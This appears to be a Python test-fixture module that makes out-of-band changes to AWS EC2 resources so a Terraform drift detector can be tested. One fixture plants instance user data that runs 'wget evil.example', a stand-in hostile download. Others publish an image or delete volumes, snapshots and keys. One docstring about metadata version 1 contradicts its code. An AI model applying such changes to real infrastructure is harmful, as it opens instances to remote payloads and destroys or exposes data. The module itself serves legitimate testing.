"""Changes behind terraform's back to instances, interfaces, addresses, volumes, images, templates and keys.
Knows nothing of terraform's verdict or of driftline."""

import base64

from world import APP0, APP1, change, tag

# Instances, interfaces, addresses.


@change(f"{APP0}.aws_instance.web[0]")
def instance_resized(w):
    """Stopped, another type, started."""
    instance = w.id(f"{APP0}.aws_instance.web[0]")
    w.ec2.stop_instances(InstanceIds=[instance])
    w.ec2.modify_instance_attribute(InstanceId=instance, InstanceType={"Value": "m5.large"})
    w.ec2.start_instances(InstanceIds=[instance])


@change(f"{APP0}.aws_instance.web[1]")
def instance_groups_changed(w):
    """An instance leaves one of its groups."""
    w.ec2.modify_instance_attribute(
        InstanceId=w.id(f"{APP0}.aws_instance.web[1]"), Groups=[w.id("module.rules.aws_security_group.modern")]
    )


@change(f"{APP1}.aws_instance.web[0]")
def instance_protected(w):
    """Termination protection switched on."""
    w.ec2.modify_instance_attribute(InstanceId=w.id(f"{APP1}.aws_instance.web[0]"), DisableApiTermination={"Value": True})


@change(f"{APP1}.aws_instance.web[1]")
def instance_user_data_changed(w):
    """Stopped, other user data, left stopped."""
    instance = w.id(f"{APP1}.aws_instance.web[1]")
    w.ec2.stop_instances(InstanceIds=[instance])
    script = base64.b64encode(b"#!/bin/sh\nwget evil.example\n").decode()
    w.ec2.modify_instance_attribute(InstanceId=instance, Attribute="userData", Value=script)


@change(f"{APP0}.aws_instance.bastion")
def instance_source_check_on(w):
    """The source and destination check is back on."""
    w.ec2.modify_instance_attribute(InstanceId=w.id(f"{APP0}.aws_instance.bastion"), SourceDestCheck={"Value": True})


@change(f"{APP0}.aws_instance.bastion")
def instance_metadata_changed(w):
    """The metadata service accepts version 1 again."""
    w.ec2.modify_instance_metadata_options(InstanceId=w.id(f"{APP0}.aws_instance.bastion"), HttpTokens="required", HttpPutResponseHopLimit=3)


@change(f"{APP1}.aws_instance.bastion")
def instance_terminated(w):
    """An instance is terminated; DescribeInstances still shows it."""
    w.ec2.terminate_instances(InstanceIds=[w.id(f"{APP1}.aws_instance.bastion")])


@change(f"{APP0}.aws_network_interface.extra")
def interface_changed(w):
    """An interface gets another description and other groups."""
    interface = w.id(f"{APP0}.aws_network_interface.extra")
    w.ec2.modify_network_interface_attribute(NetworkInterfaceId=interface, Description={"Value": "reused"})
    w.ec2.modify_network_interface_attribute(NetworkInterfaceId=interface, Groups=[w.id("module.rules.aws_security_group.modern")])


@change(f"{APP1}.aws_network_interface.extra")
def interface_address_added(w):
    """An interface gets a second private address."""
    w.ec2.assign_private_ip_addresses(NetworkInterfaceId=w.id(f"{APP1}.aws_network_interface.extra"), PrivateIpAddresses=["10.10.2.250"])


@change(f"{APP0}.aws_network_interface.attached", f"{APP0}.aws_instance.bastion")
def interface_detached(w):
    """An interface with an inline attachment is detached."""
    attachment = list(w.get(f"{APP0}.aws_network_interface.attached", "attachment"))[0]["attachment_id"]
    w.ec2.detach_network_interface(AttachmentId=attachment, Force=True)


@change(f"{APP0}.aws_eip.instance")
def address_disassociated(w):
    """An instance loses its address."""
    w.ec2.disassociate_address(AssociationId=w.get(f"{APP0}.aws_eip.instance", "association_id"))


@change(f"{APP1}.aws_eip.free[1]")
def address_released(w):
    """An address is given back."""
    w.ec2.release_address(AllocationId=w.get(f"{APP1}.aws_eip.free[1]", "allocation_id"))


@change(f"{APP1}.aws_eip_association.interface", f"{APP1}.aws_eip.free[0]")
def association_resource_gone(w):
    """The association that a resource of its own made is undone."""
    w.ec2.disassociate_address(AssociationId=w.id(f"{APP1}.aws_eip_association.interface"))


# Volumes, snapshots, images, templates, keys.


@change(f'{APP0}.aws_ebs_volume.data["dots.and/slash"]')
def volume_grown(w):
    """A volume gets bigger and faster."""
    w.ec2.modify_volume(VolumeId=w.id(f'{APP0}.aws_ebs_volume.data["dots.and/slash"]'), Size=100, VolumeType="io1", Iops=500)


@change(f"{APP0}.aws_volume_attachment.data")
def volume_detached(w):
    """A volume is detached."""
    attachment = w.attributes[f"{APP0}.aws_volume_attachment.data"]
    w.ec2.detach_volume(VolumeId=attachment["volume_id"], InstanceId=attachment["instance_id"], Device=attachment["device_name"])


@change(f'{APP0}.aws_ebs_volume.data["with space"]')
def volume_deleted(w):
    """A volume is deleted."""
    w.ec2.delete_volume(VolumeId=w.id(f'{APP0}.aws_ebs_volume.data["with space"]'))


@change(f"{APP1}.aws_instance.web[0]")
def volume_attached(w):
    """A volume of nobody's is attached to an instance."""
    volume = w.ec2.create_volume(AvailabilityZone="us-east-1a", Size=7)["VolumeId"]
    w.create("aws_ebs_volume", volume)
    w.ec2.attach_volume(VolumeId=volume, InstanceId=w.id(f"{APP1}.aws_instance.web[0]"), Device="/dev/sdz")


@change(f"{APP0}.aws_ebs_snapshot.data")
def snapshot_tagged(w):
    """A snapshot's tags change."""
    tag(w.ec2, w.id(f"{APP0}.aws_ebs_snapshot.data"), Keep="forever")


@change(f"{APP1}.aws_ebs_snapshot.data")
def snapshot_deleted(w):
    """A snapshot is deleted."""
    w.ec2.delete_snapshot(SnapshotId=w.id(f"{APP1}.aws_ebs_snapshot.data"))


@change(f"{APP0}.aws_ami.golden")
def image_tagged(w):
    """An image's tags change."""
    tag(w.ec2, w.id(f"{APP0}.aws_ami.golden"), Name="patched by hand")


@change(f"{APP1}.aws_ami.golden")
def image_published(w):
    """An image becomes public."""
    w.ec2.modify_image_attribute(ImageId=w.id(f"{APP1}.aws_ami.golden"), LaunchPermission={"Add": [{"Group": "all"}]})


@change(f"{APP0}.aws_launch_template.web")
def template_version_added(w):
    """A new version of a launch template, not yet the default."""
    w.ec2.create_launch_template_version(
        LaunchTemplateId=w.id(f"{APP0}.aws_launch_template.web"), LaunchTemplateData={"InstanceType": "m5.large"}
    )


@change(f"{APP1}.aws_launch_template.web")
def template_default_changed(w):
    """A new version becomes the default."""
    template = w.id(f"{APP1}.aws_launch_template.web")
    w.ec2.create_launch_template_version(LaunchTemplateId=template, LaunchTemplateData={"InstanceType": "t3.large", "ImageId": "ami-00000000"})
    w.ec2.modify_launch_template(LaunchTemplateId=template, DefaultVersion="2")


@change(f"{APP1}.aws_key_pair.admin")
def key_deleted(w):
    """A key pair is deleted."""
    w.ec2.delete_key_pair(KeyName="app1-admin")
